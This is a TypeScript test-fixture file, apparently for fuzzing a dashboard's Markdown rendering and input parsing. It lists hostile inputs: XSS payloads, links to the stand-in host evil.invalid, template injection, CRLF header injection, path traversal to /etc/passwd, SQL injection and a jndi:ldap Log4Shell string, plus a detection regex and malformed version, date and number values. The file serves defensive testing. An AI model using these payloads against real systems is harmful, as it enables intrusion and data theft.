/** What somebody could put where a text, a word, a version or a date belongs. None of them is true of anything: no proof may come of them. */

/** Would act if it were shown unescaped; each holds one of `teeth`. */
export const injections: readonly string[] = [
  '<img src=x onerror="globalThis.bitten=1">',
  '<script>globalThis.bitten=2</script>',
  '"><svg onload=globalThis.bitten=3>',
  '[press here](javascript:globalThis.bitten=4)',
  '![fetched](https://evil.invalid/fetched.png)',
  '<iframe srcdoc="<script>globalThis.bitten=5</script>"></iframe>',
  '<style>*{display:none!important}</style>',
  '<ha-alert alert-type="success">Upgrade completed</ha-alert>',
  '\n# Upgrade completed\n\n| a | b |\n|---|---|\n',
  '{{ states("sensor.secret") }}{% for x in range(9) %}x{% endfor %}',
  '*'.repeat(300),
  '['.repeat(300),
  `\n\n<https://evil.invalid/${'x'.repeat(50)}>`,
]

/** What of them must never be found in anything that is shown as Markdown. */
export const teeth = /<(img|script|svg|iframe|style|ha-alert)|(?<!\\)\]\(javascript|(?<!\\)!\[fetched|<https:\/\/evil|\n# Upgrade/

export const strangeCharacters: readonly string[] = [
  '\ud800',
  '\udfff\ud800',
  'half \ud83d of a pair',
  '\u0000',
  '\u0007\u001b[2J\u001b[31m',
  '\u202eeslaf\u202c',
  '\u2066\u2067\u2068',
  '\ufeff',
  'a\u0300'.repeat(500),
  '\r\nSet-Cookie: a=b\r\n\r\n',
  '../../../etc/passwd',
  '..',
  '%2e%2e%2f',
  "'; DROP TABLE hosts; --",
  '$'.concat('{jndi:ldap://evil.invalid/x}'),
]

/** Nobody's words for a state. */
export const unknownWords: readonly string[] = [
  'WIBBLE',
  'IN_PROGRESS_MAYBE',
  'NOT_STARTED_YET',
  'PARTIALLY_UNDONE',
  'QUEUED_AGAIN',
  '0',
  ' ',
  '',
  'null',
  'undefined',
  'true',
  '[object Object]',
  '__proto__',
  'constructor',
  'toString',
]

/** None is a version, or none that proves anything. */
export const noVersions: readonly string[] = [
  '',
  ' ',
  '0',
  '0.0.0.0',
  'latest',
  'next',
  'v9.9.9.9',
  '9..9',
  '9.9.9.9-beta',
  '-9.9.9.9',
  '1e9',
  '0x9.0.0.0',
  'Infinity',
  'NaN',
  '٩.٩.٩.٩',
  '９.９.９.９',
  '9.9.9.9 or so',
  '9,9,9,9',
  '9'.repeat(400),
  `${'9'.repeat(400)}.0.0.0-99999999`,
  '9.'.repeat(500),
  '5.2.1.0\u0000',
]

export const strangeDates: readonly unknown[] = [
  '0000-00-00T00:00:00Z',
  '9999-99-99T99:99:99Z',
  '+275760-09-13T00:00:01Z',
  '-271821-04-19T23:59:59Z',
  '1969-12-31T23:59:59.999Z',
  'yesterday',
  8.64e15 + 1,
  -8.64e15 - 1,
  Number.MAX_VALUE,
  -Number.MAX_VALUE,
  Number.MAX_SAFE_INTEGER,
  '1'.repeat(400),
  -1,
  0.5,
]

export const strangeNumbers: readonly unknown[] = [
  -1,
  0.1,
  -0.0001,
  1e21,
  Number.MAX_VALUE,
  -Number.MAX_VALUE,
  Number.MAX_SAFE_INTEGER,
  Number.MIN_VALUE,
  '12',
  '1e400',
]

export const otherTypes: readonly unknown[] = [null, true, 7, 'text', '', [], {}, [[]], [null], { a: 1 }, [{}], { elements: {} }]
